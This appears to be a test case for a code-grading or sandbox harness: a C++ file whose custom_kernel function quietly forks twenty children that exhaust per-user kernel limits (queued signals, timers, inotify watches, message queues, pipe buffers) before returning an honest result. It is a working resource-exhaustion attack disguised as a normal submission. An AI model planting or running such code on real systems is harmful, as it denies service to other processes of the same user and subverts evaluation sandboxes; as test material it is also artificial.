// SPDX-License-Identifier: MIT
// class: Host: floods of what the kernel counts by user
// tries: to use up what all processes of one user share: watches, queued signals, timers, pipe pages, locks, queues.
// expect: passed failed timed_out
// beside: honest
#include "attack.h"

#include <mqueue.h>
#include <sys/epoll.h>
#include <sys/inotify.h>
#include <time.h>

static void use_up()
{
	sigset_t all;
	sigfillset(&all);
	sigprocmask(SIG_BLOCK, &all, nullptr);
	while (sigqueue(getpid(), SIGRTMIN, {}) == 0)
		;
	timer_t timer;
	for (int i = 0; i < 100000 && timer_create(CLOCK_MONOTONIC, nullptr, &timer) == 0; i++)
		;
	for (int i = 0; i < 200 && inotify_init1(0) >= 0; i++)
		;
	int watch = inotify_init1(0);
	for (int i = 0; i < 20000 && watch >= 0; i++) {
		char name[64];
		snprintf(name, sizeof(name), "/tmp/watched%d", i);
		if (mkdir(name, 0700) != 0 || inotify_add_watch(watch, name, IN_ALL_EVENTS) < 0)
			break;
	}
	for (int i = 0; i < 1000; i++) {
		char name[64];
		snprintf(name, sizeof(name), "/queue%d.%d", getpid(), i);
		if (mq_open(name, O_RDWR | O_CREAT, 0600, nullptr) < 0)
			break;
	}
	int ends[2];
	while (pipe(ends) == 0)
		fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
}

static void attack()
{
	for (int child = 0; child < 20; child++)
		if (fork() == 0) {
			use_up();
			for (;;)
				pause();
		}
	sleep(1);
}

void custom_kernel(const input_t &input, output_t &output)
{
	static int once = (tried(), attack(), 0);
	(void)once;
	honest(input, output);
}
